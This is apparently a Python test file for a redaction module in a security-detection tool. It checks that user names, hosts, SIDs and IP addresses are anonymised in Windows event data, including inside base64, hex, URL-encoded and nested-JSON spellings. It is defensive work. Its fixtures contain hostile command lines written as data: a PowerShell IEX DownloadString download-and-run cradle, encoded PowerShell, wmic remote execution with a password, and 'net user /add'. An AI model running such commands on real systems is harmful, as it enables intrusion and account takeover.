"""No name of an event's own survives, in whatever spelling, and what a rule is about does."""

from __future__ import annotations

import base64
import gzip
import json
import re
from typing import Any

import pytest
from hypothesis import assume, given
from hypothesis import strategies as st

from sigma_xdr.drafting.redaction import CUT, redacted

SID = "S-1-5-21-123456789-223456789-323456789-1104"
CLEAN = "S-1-5-21-1111111111-2222222222-3333333001-1101"


def utf16(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_an_event_keeps_its_shape_and_loses_its_names_the_same_everywhere() -> None:
    event = {
        "DeviceName": "ws01.corp.contoso.com",
        "ActionType": "ProcessCreated",
        "AccountDomain": "CONTOSO",
        "AccountName": "anna.berg",
        "AccountSid": SID,
        "AccountUpn": "Anna.Berg@contoso.com",
        "FolderPath": r"C:\Users\anna.berg\AppData\Local\Temp\x.exe",
        "ProcessCommandLine": r'wmic /node:"DB01,10.1.2.3" /user:CONTOSO\anna.berg /password:Summer2026 call "\\SRV01\c$\x.exe"',
        "InitiatingProcessAccountName": "system",
        "InitiatingProcessAccountDomain": "nt authority",
        "RemoteIP": "52.1.2.3",
        "LocalIP": "fe80::1ff:fe23:4567:890a",
        "InitiatingProcessVersionInfoProductVersion": "10.0.1.2",
        "ProcessId": 44,
        "AdditionalFields": r'{"ClientMachine": "WS01", "User": "CONTOSO\\anna.berg", "Path": "C:\\Users\\anna.berg\\x"}',
    }
    assert redacted(event).event == {
        "DeviceName": "host1.example.com",
        "ActionType": "ProcessCreated",
        "AccountDomain": "EXAMPLE",
        "AccountName": "user1",
        "AccountSid": "S-1-5-21-1111111111-2222222222-3333333001-1101",
        "AccountUpn": "user1@example.net",
        "FolderPath": r"C:\Users\user1\AppData\Local\Temp\x.exe",
        "ProcessCommandLine": r'wmic /node:"HOST3,192.0.2.1" /user:EXAMPLE\user1 /password:Placeholder-1 call "\\HOST2\c$\x.exe"',
        "InitiatingProcessAccountName": "system",
        "InitiatingProcessAccountDomain": "nt authority",
        "RemoteIP": "198.51.100.1",
        "LocalIP": "2001:db8::1",
        "InitiatingProcessVersionInfoProductVersion": "10.0.1.2",
        "ProcessId": 44,
        "AdditionalFields": r'{"ClientMachine": "HOST1", "User": "EXAMPLE\\user1", "Path": "C:\\Users\\user1\\x"}',
    }
    assert redacted(event).notes == ()


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        (r"net use \\WS-FINANCE\c$", r"net use \\HOST1\c$"),
        (r"type \\\\ws-finance\\c$\\x", r"type \\\\host1\\c$\\x"),
        (r"\\?\C:\Users\anna.berg\x", r"\\?\C:\Users\user1\x"),
        (r"\Device\HarddiskVolume3\Users\anna.berg\x", r"\Device\HarddiskVolume3\Users\user1\x"),
        ("file:///C:/Users/anna.berg/x.hta", "file:///C:/Users/user1/x.hta"),
        (r"C:\Users\ANNA~1.BER\x.exe", r"C:\Users\USER1\x.exe"),
        (r"C:\Documents and Settings\anna berg\x", r"C:\Documents and Settings\user1\x"),
        (r'"C:\Users\anna.berg" /s', r'"C:\Users\user1" /s'),
        (r"C:\Users\Public\x & C:\Users\Administrator\y", r"C:\Users\Public\x & C:\Users\Administrator\y"),
        ("ping 10.0.0.5 && ping 10.0.0.50 && ping 127.0.0.1", "ping 192.0.2.1 && ping 192.0.2.2 && ping 127.0.0.1"),
        (r"\\127.0.0.1\ADMIN$\__1556656369.7 2>&1", r"\\127.0.0.1\ADMIN$\__1556656369.7 2>&1"),
        ("http://[2001:470::1]:80/ ::1 12:30:45", "http://[2001:db8::1]:80/ ::1 12:30:45"),
        ("::ffff:10.0.0.5 10.0.0.5", "::ffff:192.0.2.1 192.0.2.1"),
        ("2001:0470:0:0:0:0:0:1 2001:470::1", "2001:db8::1 2001:db8::1"),
        ("aa:bb:cc:dd:ee:0f AA-BB-CC-DD-EE-0F", "00-00-5e-00-53-01 00-00-5E-00-53-02"),
        ("send to max.muster@firma.de.", "send to user1@example.com."),
        ("dc01.ad.firma.local", "host1.example.com"),
        (rf"HKU\{SID}\Software, {SID[:-5]}", rf"HKU\{CLEAN}\Software, {CLEAN[:-5]}"),
        ("S-1-5-18 S-1-5-32-544", "S-1-5-18 S-1-5-32-544"),
        ("Invoke-WmiMethod -ComputerName fs01,fs02 -Class X", "Invoke-WmiMethod -ComputerName host1,host2 -Class X"),
        ("wmic.exe process list", "wmic.exe process list"),
    ],
)  # fmt: skip
def test_a_command_line(text: str, clean: str) -> None:
    assert redacted({"ProcessCommandLine": text}).event == {"ProcessCommandLine": clean}


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("run as ANNA.BERG", "run as USER1"),
        ('an"na.b"erg and a^n^na.berg and an`na.berg', "user1 and user1 and user1"),
        (r"{'u': '\u0061nna.berg'", "{'u': 'user1'"),
        (r"{\\u0061nna\u002eberg", "{user1"),
        ("?u=%61nna.berg&v=anna%2Eberg", "?u=user1&v=user1"),
        (r'{"a":"\u0061nna.berg"}', r'{"a":"user1"}'),
        (r'{"a": "{\"b\": \"anna.berg\"}"}', r'{"a": "{\"b\": \"user1\"}"}'),
        ("anna.berg.CONTOSO report_anna.berg.docx", "user1.CONTOSO report_user1.docx"),
        ('["anna.berg", 1]', '["user1", 1]'),
    ],
)
def test_a_name_in_other_spellings(text: str, clean: str) -> None:
    assert redacted({"AccountName": "anna.berg", "Text": text}).event["Text"] == clean


def test_an_encoded_command_is_encoded_again() -> None:
    script = r"IEX (New-Object Net.WebClient).DownloadString('http://srv01.corp.contoso.com/a'); cd C:\Users\anna.berg"
    clean = redacted({"ProcessCommandLine": f"powershell -enc {utf16(script)} -nop"})
    said = r"IEX (New-Object Net.WebClient).DownloadString('http://srv01.corp.contoso.com/a'); cd C:\Users\user1"
    assert clean.event == {"ProcessCommandLine": f"powershell -enc {utf16(said)} -nop"}
    again = redacted({"ProcessCommandLine": f"powershell -enc {utf16(script)}", "DeviceName": "srv01.corp.contoso.com"})
    said = r"IEX (New-Object Net.WebClient).DownloadString('http://host1.example.com/a'); cd C:\Users\user1"
    assert again.event["ProcessCommandLine"] == f"powershell -enc {utf16(said)}"
    assert again.notes == ()


def test_encoding_in_encoding_is_followed() -> None:
    inner = f"powershell -e {utf16('whoami; type C:/Users/anna.berg/x')}"
    outer = f"cmd /c powershell -e {utf16(inner)}"
    said = f"powershell -e {utf16('whoami; type C:/Users/user1/x')}"
    assert redacted({"ProcessCommandLine": outer}).event == {
        "ProcessCommandLine": f"cmd /c powershell -e {utf16(said)}"
    }


def test_hex_is_written_as_hex_again() -> None:
    blob = b"C:\\Users\\anna.berg\\x".hex()
    assert redacted({"Data": f"0x{blob}"}).event == {"Data": "0x" + b"C:\\Users\\user1\\x".hex()}


def test_what_can_not_be_written_again_is_cut_out_and_said() -> None:
    packed = base64.b64encode(gzip.compress(b"net user anna.berg /add " * 20)).decode()
    clean = redacted({"AccountName": "anna.berg", "ProcessCommandLine": f"powershell -c {packed}"})
    assert clean.event == {"AccountName": "user1", "ProcessCommandLine": f"powershell -c {CUT}"}
    assert clean.notes == ("ProcessCommandLine: held a name in a form that can't be replaced, and was cut out",)
    binary = base64.b64encode(b"\x00\x01\xff\xfe" * 9 + b"anna.berg" + b"\x80\x81" * 9).decode()
    clean = redacted({"AccountName": "anna.berg", "Text": [f"x {binary}"]})
    assert clean.event == {"AccountName": "user1", "Text": [f"x {CUT}"]}


def test_encoded_data_that_says_nothing_is_left_and_mentioned() -> None:
    binary = base64.b64encode(bytes(range(128, 256))).decode()
    clean = redacted({"Text": binary, "SHA256": "ab" * 32})
    assert clean.event == {"Text": binary, "SHA256": "ab" * 32}
    assert clean.notes == ("Text: holds encoded data that was left as it is: look into it",)


def test_a_sid_as_mof_writes_it_is_replaced_by_bytes() -> None:
    mof = "SID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 148, 201, 44, 47, 92, 247, 22, 107, 113, 39, 52, 166, 88, 4, 0, 0};"
    text = "SID = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 199, 53, 58, 66, 142, 107, 116, 132, 85, 161, 174, 198, 88, 4, 0, 0};"
    assert redacted({"PossibleCause": mof}).event == {"PossibleCause": text}
    local = "{1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 32, 2, 0, 0}"
    assert redacted({"PossibleCause": local}).event == {"PossibleCause": local}


def test_a_record_of_windows_in_its_own_json() -> None:
    record = {
        "Event": {
            "System": {"Computer": "FS03.offsec.lan", "EventID": 4688, "Channel": "Security"},
            "EventData": {
                "Data": [
                    {"@Name": "SubjectUserName", "#text": "admmig"},
                    {"@Name": "SubjectDomainName", "#text": "OFFSEC"},
                    {"@Name": "CommandLine", "#text": r"cmd /c \\fs03\share\admmig.bat"},
                    {"@Name": "TargetUserName", "#text": "-"},
                    {"@Name": "LogonGuid", "#text": "{2f9960d0-fee5-478e-871e-512f2ecf255f}"},
                ]
            },
        }
    }
    event = redacted(record).event["Event"]
    assert event["System"] == {"Computer": "host1.example.com", "EventID": 4688, "Channel": "Security"}
    assert [each["#text"] for each in event["EventData"]["Data"]] == [
        "user1",
        "EXAMPLE",
        r"cmd /c \\host1\share\user1.bat",
        "-",
        "{00000000-0000-4000-8000-000000000001}",
    ]


def test_what_nothing_can_stand_for_is_cut_out() -> None:
    event = {"AccountName": "example", "DeviceName": "example.host.test"}
    assert redacted(event).event == {"AccountName": "user1", "DeviceName": CUT}


# ------------------------------------------------------------------------------------------------------- nothing survives

NAMES = st.from_regex(r"[A-Za-z][A-Za-z0-9]{5,10}", fullmatch=True)
OCTETS = st.tuples(st.sampled_from([10, 52, 172, 185]), *[st.integers(0, 255)] * 3)
V6 = st.ip_addresses(v=6, network="2a00::/16").map(lambda address: address.exploded)
SIDS = st.tuples(*[st.integers(1, 2**32 - 1)] * 3, st.integers(1000, 9999)).map(
    lambda parts: "S-1-5-21-" + "-".join(map(str, parts))
)


def mixed(text: str, choice: st.DataObject) -> str:
    return "".join(char.swapcase() if choice.draw(st.booleans()) else char for char in text)


def quoted(text: str, choice: st.DataObject) -> str:
    at = choice.draw(st.integers(1, len(text) - 1))
    return text[:at] + choice.draw(st.sampled_from(['"', '""', "^", "`", "'+'"])) + text[at:]


def escaped(text: str, choice: st.DataObject) -> str:
    slashes = "\\" * choice.draw(st.integers(1, 4))
    return "".join(f"{slashes}u{ord(char):04x}" if choice.draw(st.booleans()) else char for char in text)


def in_url(text: str, choice: st.DataObject) -> str:
    return "".join(f"%{ord(char):02X}" if choice.draw(st.booleans()) else char for char in text)


def encoded(text: str, choice: st.DataObject) -> str:
    before = "x" * choice.draw(st.integers(0, 5))
    codec = choice.draw(st.sampled_from(["utf-16-le", "utf-8"]))
    return base64.b64encode(f"{before} cmd /c echo {text} & whoami".encode(codec)).decode()


def in_json(text: str, choice: st.DataObject) -> str:
    value: Any = {"said": text}
    for _ in range(choice.draw(st.integers(1, 3))):
        value = {"inner": json.dumps(value)}
    return json.dumps(value)


SPELLINGS = {
    "as it is": lambda text, choice: text,
    "case": mixed,
    "quotes": quoted,
    "escapes": escaped,
    "url": in_url,
    "base64": encoded,
    "json": in_json,
    "within a word": lambda text, choice: f"_{text}_",
    "base64 of another case": lambda text, choice: encoded(mixed(text, choice), choice),
    "json of base64": lambda text, choice: in_json(encoded(text, choice), choice),
    "hex": lambda text, choice: text.encode("utf-16-le").hex(),
}  # fmt: skip


def readings(text: str, depth: int = 0) -> list[str]:
    """All that a reader who tries hard finds in a text, on other ways than the redaction goes."""
    found = [text]
    plain = re.sub(r"\\+u([0-9a-fA-F]{4})", lambda code: chr(int(code[1], 16)), text)
    plain = re.sub(r"%([0-9a-fA-F]{2})", lambda code: chr(int(code[1], 16)), plain)
    found.append(re.sub(r"[\"'^`+\\]", "", plain))
    if depth < 8:
        for blob in re.findall(r"[A-Za-z0-9+/]{8,}", text):
            for start in range(4):
                bare = blob[start:]
                bare = bare[: len(bare) - len(bare) % 4]
                data = base64.b64decode(bare)
                found += [data.decode("utf-16-le", "ignore"), data.decode("utf-8", "ignore")]
        for blob in re.findall(r"(?:[0-9a-fA-F]{2}){8,}", text):
            found.append(bytes.fromhex(blob).decode("utf-16-le", "ignore"))
        try:
            values = json.loads(text)
        except ValueError:
            values = None
        if isinstance(values, dict):
            for value in values.values():
                found += readings(str(value), depth + 1)
    return found


def survives(secret: str, event: Any) -> list[str]:
    return [text for value in event.values() for text in readings(str(value)) if secret.lower() in text.lower()]


@given(st.data())
def test_no_name_survives_in_any_spelling(choice: st.DataObject) -> None:
    user, host, domain = choice.draw(st.lists(NAMES, min_size=3, max_size=3, unique_by=str.lower))
    for name in (user, host, domain):
        others = (
            "exampl",
            "host",
            "user",
            "whoami",
            "echo",
            "cmd",
            "said",
            "inner",
            "person",
            "test",
            "todo",
            "removed",
        )
        assume(not any(each in name.lower() or name.lower() in each for each in others))
    address = ".".join(map(str, choice.draw(OCTETS)))
    v6, sid = choice.draw(V6), choice.draw(SIDS)
    event = {
        "DeviceName": f"{host}.{domain}.com",
        "AccountName": user,
        "AccountDomain": domain,
        "AccountSid": sid,
        "RemoteIP": address,
        "LocalIP": v6,
        "AccountUpn": f"{user}@{domain}.com",
        "FolderPath": f"C:\\Users\\{user}\\x.exe",
    }
    for number in range(3):
        secret = choice.draw(st.sampled_from([user, host, domain, sid, address, f"{domain}\\{user}"]))
        spelling = choice.draw(st.sampled_from(sorted(SPELLINGS)))
        event[f"Text{number}"] = SPELLINGS[spelling](secret, choice)
    clean = redacted(event).event
    assert clean.keys() == event.keys()
    for secret in (user, host, domain, sid, v6):
        assert survives(secret, clean) == []
    assert [
        text for text in survives(address, clean) if re.search(rf"(?<![0-9]){re.escape(address)}(?![0-9])", text)
    ] == []


@given(st.text(max_size=3, alphabet="abcXYZ09"), st.text(max_size=60))
def test_a_short_name_survives_nowhere_as_a_word(user: str, around: str) -> None:
    assume(user and not user[0].isdigit() and user.lower() not in ("c", "x", "z"))
    clean = redacted({"AccountName": user, "Text": f"{around} {user} ({user.upper()})"}).event
    words = re.findall(r"[^\W_]+", clean["Text"].lower())
    assert user.lower() not in words or user.lower() in re.findall(r"[^\W_]+", f"{around}".lower())
    assert clean["AccountName"] != user


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner),
    )
)
def test_anything_is_taken_and_the_shape_stays(event: Any) -> None:
    def shape(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: shape(each) for key, each in value.items()}
        return [shape(each) for each in value] if isinstance(value, list) else type(value)

    assert shape(redacted(event).event) == shape(event)
    assert redacted(event) == redacted(event)


@given(st.text(alphabet='\\"^/:@.-{}[]0123456789abcfuS%= ', max_size=120))
def test_hostile_text_ends_soon(text: str) -> None:
    assert isinstance(
        redacted({"AccountName": "anna.berg", "ProcessCommandLine": text * 20}).event["ProcessCommandLine"], str
    )
